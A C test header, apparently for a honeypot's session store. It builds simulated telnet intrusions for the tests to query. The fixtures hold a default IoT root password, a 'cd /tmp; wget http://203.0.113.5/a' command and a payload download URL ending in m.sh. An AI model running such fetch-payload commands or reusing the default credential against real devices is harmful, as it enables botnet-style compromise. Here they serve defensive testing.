#pragma once
/*
 * Sessions made of events, for tests: how they are told, and what is asked of them.
 */
#include "store/test-vouched.h"

#include "base/text.h"
#include "store/session.h"

#include <sys/syscall.h>
#include <sys/wait.h>

/* ---- a process that dies at its n-th write ---- */

static long writes_left = -1;

/* SQLite is a shared library: its calls end here. (The name in C is pwrite64's, where files are large.) */
ssize_t pwrite(int fd, const void *data, size_t n, off_t at)
{
    if (writes_left > 0 && --writes_left == 0)
        _exit(9);
    return syscall(SYS_pwrite64, fd, data, n, at);
}

#define US INT64_C(1000000)
#define START (DAY * US)

/* ---- events ---- */

static inline struct addr address(const char *text)
{
    struct addr a;
    assert_int_equal(addr_parse(text, &a), 0);
    return a;
}

static inline int keep(struct store *s, const struct session_event *e)
{
    int err = store_session_event(s, e);
    assert_true(err >= 0);
    return err;
}

static inline void open_one(struct store *s, uint64_t id, int64_t time, const char *source, const char *persona)
{
    struct session_event e;
    struct addr from = address(source), to = address("192.0.2.77");
    session_begin(&e, SESSION_OPEN, id, time);
    session_set_address(&e, FIELD_SOURCE, &from);
    session_set(&e, FIELD_SOURCE_PORT, 40000);
    session_set_address(&e, FIELD_DESTINATION, &to);
    session_set(&e, FIELD_DESTINATION_PORT, 23);
    session_set_text(&e, FIELD_SERVICE, "telnet");
    session_set_text(&e, FIELD_PERSONA, persona);
    assert_int_equal(keep(s, &e), 0);
}

static inline int say(struct store *s, uint64_t id, int64_t time, unsigned direction, const void *data, size_t n)
{
    struct session_event e;
    session_begin(&e, SESSION_SPOKEN, id, time);
    session_set(&e, FIELD_DIRECTION, direction);
    session_set(&e, FIELD_AT, (uint64_t)(time - START));
    session_set_bytes(&e, FIELD_DATA, data, n);
    return keep(s, &e);
}

static inline int say_text(struct store *s, uint64_t id, int64_t time, unsigned direction, const char *text)
{
    return say(s, id, time, direction, text, strlen(text));
}

static inline int with_text(struct store *s, uint64_t id, int64_t time, enum session_type type, enum session_field f,
                     const char *text)
{
    struct session_event e;
    session_begin(&e, type, id, time);
    session_set_text(&e, f, text);
    return keep(s, &e);
}

static inline int login(struct store *s, uint64_t id, int64_t time, const char *user, const char *password, bool accepted)
{
    struct session_event e;
    session_begin(&e, SESSION_LOGIN, id, time);
    session_set_text(&e, FIELD_USER, user);
    session_set_text(&e, FIELD_PASSWORD, password);
    session_set(&e, FIELD_ACCEPTED, accepted);
    return keep(s, &e);
}

static inline void hash_of(const void *data, size_t n, uint8_t ret[static SHA256_BYTES])
{
    struct sha256 h;
    sha256_begin(&h);
    sha256_add(&h, data, n);
    sha256_end(&h, ret);
}

static inline void make_file(struct store *s, uint64_t id, int64_t time, const void *data, size_t n, bool honest)
{
    struct session_event e;
    uint8_t hash[SHA256_BYTES];
    hash_of(data, n, hash);
    hash[0] ^= !honest;
    session_begin(&e, SESSION_FILE, id, time);
    session_set_text(&e, FIELD_PATH, "/tmp/x");
    session_set_bytes(&e, FIELD_SHA256, hash, sizeof hash);
    session_set(&e, FIELD_SIZE, n);
    session_set_bytes(&e, FIELD_CONTENT, data, n);
    assert_int_equal(keep(s, &e), 0);
}

static inline void close_one(struct store *s, uint64_t id, int64_t time)
{
    assert_int_equal(with_text(s, id, time, SESSION_CLOSE, FIELD_REASON, "left"), 0);
}

/* A whole session, of some seconds. */
static inline void visit(struct store *s, uint64_t id, int64_t time, const char *source, const char *persona,
                  const char *command)
{
    open_one(s, id, time, source, persona);
    assert_int_equal(say_text(s, id, time + US, 1, "login: "), 0);
    login(s, id, time + US, "root", "wrong", false);
    login(s, id, time + 2 * US, "root", "xc3511", true);
    assert_int_equal(with_text(s, id, time + 3 * US, SESSION_COMMAND, FIELD_COMMAND, command), 0);
    assert_int_equal(say_text(s, id, time + 3 * US, 0, command), 0);
    assert_int_equal(with_text(s, id, time + 3 * US, SESSION_DOWNLOAD, FIELD_URL, "http://198.51.100.9/m.sh"), 0);
    assert_int_equal(with_text(s, id, time + 4 * US, SESSION_UNKNOWN, FIELD_COMMAND, "dvrHelper"), 0);
    close_one(s, id, time + 5 * US);
}

/* ---- answers ---- */

struct list {
    struct session_facts row[40];
    size_t n;
};

static inline int take_row(void *context, const struct session_facts *row)
{
    struct list *l = context;
    assert_true(l->n < 40);
    l->row[l->n++] = *row;
    return 0;
}

static inline struct list ask(struct store *s, struct session_filter f)
{
    static struct list l;
    l.n = 0;
    assert_int_equal(store_sessions(s, &f, take_row, &l), 0);
    return l;
}

static inline int take_piece(void *context, const struct session_piece *p)
{
    struct buf *b = context;
    buf_u8(b, p->direction);
    buf_put(b, p->data, p->n);
    return 0;
}

static inline struct buf spoken_in(struct store *s, uint64_t id)
{
    struct buf b;
    buf_init(&b, 1 << 20);
    assert_int_equal(store_session_spoken(s, id, take_piece, &b), 0);
    return b;
}

static inline int count_event(void *context, const struct session_event *e)
{
    unsigned *types = context;
    types[e->type]++;
    return 0;
}

static inline void fill(struct store *s)
{
    visit(s, 1, START, "198.51.100.4", "recorder", "cd /tmp; wget http://203.0.113.5/a");
    visit(s, 2, START + 60 * US, "198.51.100.4", "router", "uname -a");
    visit(s, 3, START + 7200 * US, "198.51.200.8", "router", "uname -a");
    visit(s, 4, START + 7300 * US, "2001:db8::5", "router", "ps");
    open_one(s, 5, START + 9000 * US, "198.51.100.4", "router");
    assert_int_equal(store_commit(s), 0);
}

static inline int write_name(void *context, const struct session_named *r)
{
    struct buf *b = context;
    char line[200];
    int n = snprintf(line, sizeof line, "%.*s %d %d %d %d %d;", (int)r->n, (const char *)r->name, (int)r->count,
                     (int)r->sources, (int)r->rank, (int)r->previous, (int)r->previous_rank);
    buf_put(b, line, (size_t)n);
    return 0;
}
